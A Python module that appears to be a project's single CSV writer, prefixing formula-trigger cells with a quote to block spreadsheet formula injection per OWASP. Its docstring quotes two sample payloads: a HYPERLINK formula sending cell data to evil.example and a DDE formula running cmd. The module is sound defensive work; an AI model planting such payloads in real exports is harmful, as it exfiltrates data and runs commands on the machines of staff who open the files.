"""Writing CSV: the one writer every CSV the project writes goes through, so that no cell someone
typed is run as a formula by the spreadsheet that opens the file.

A name or an e-mail address such as `=HYPERLINK("https://evil.example/?"&A1,"Click")` or
`@SUM(1+1)*cmd|' /C calc'!A0` is inert text in our database and a formula in Excel, LibreOffice
and Google Sheets, run with the rights of the staff member who opened the export. OWASP's rule
(CSV Injection, owasp.org/www-community/attacks/CSV_Injection) is followed: a cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in front, which
spreadsheets read as "this is text" and do not show. Quoting (RFC 4180's double quotes, doubled
inside) is the csv module's.

Our choice on numbers, which OWASP leaves open: a cell that is a number is data, not a formula,
and is written unchanged: an int, float or Decimal, and a string that is exactly one decimal
number (`-3`, `+4.5`, `-1e6`). A spreadsheet reads those as numbers and runs nothing; a quote in
front would turn a negative amount into text that no longer sums. Anything more (`-3+4`, `+1 555
0100`, `-` alone) is not a number and gets the quote.

Leading spaces are not a trigger (OWASP does not list them, and the spreadsheets we know do not
evaluate ` =1+1`); the cell is written as given.
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_DECIMAL_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(cell: Any) -> Any:
    """`cell` as it may be written to CSV: prefixed with `'` when it begins with a formula
    trigger and is not a number; numbers, None and other cells unchanged."""
    if cell is None or isinstance(cell, bool | int | float | Decimal):
        return cell
    text = str(cell)
    if text.startswith(FORMULA_TRIGGERS) and not _DECIMAL_NUMBER.fullmatch(text):
        return "'" + text
    return cell


class SpreadsheetSafeWriter:
    """`csv.writer` with every cell passed through `spreadsheet_safe` (header rows too: a
    column name is harmless, and one path for every row is one path to check)."""

    def __init__(self, stream: TextIO, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **fmtparams: Any) -> SpreadsheetSafeWriter:
    """The project's CSV writer (the csv module's dialect and options, formula cells
    neutralised). Every export uses it; tests/commands/test_csv_output.py checks none uses
    `csv.writer` or `csv.DictWriter` directly."""
    return SpreadsheetSafeWriter(stream, **fmtparams)
